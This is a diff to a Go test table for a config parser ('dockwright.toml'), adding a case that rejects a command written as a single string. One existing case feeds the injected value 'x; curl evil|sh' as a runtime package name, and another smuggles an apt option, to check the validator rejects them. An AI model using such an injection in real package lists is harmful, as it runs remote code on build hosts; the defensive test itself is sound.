@@ -242,6 +242,7 @@ func TestParseErrors(t *testing.T) {
 		{"port", "dockwright.toml", "port = 65536\n", 1, "port 65536", types},
 		{"negative port", "dockwright.toml", "port = -1\n", 1, "port -1", types},
 		{"empty command", "dockwright.toml", "command = []\n", 1, "command is empty", types},
+		{"a line as the program", "dockwright.toml", "command = [\"gunicorn app:app\"]\n", 1, `command names the program "gunicorn app:app": give each word by itself, as in ["gunicorn", "app:app"]`, types},
 		{"empty program", "dockwright.toml", "command = [\"\", \"x\"]\n", 1, "command is empty", types},
 		{"shell in a package", "dockwright.toml", "[system-packages]\nbuild = [\"g++\"]\nruntime = [\"x; curl evil|sh\"]\n", 3, "system-packages.runtime names", types},
 		{"option as a package", "dockwright.toml", "\n[system-packages]\nbuild = [\"--allow-unauthenticated\"]\n", 3, "system-packages.build names", types},
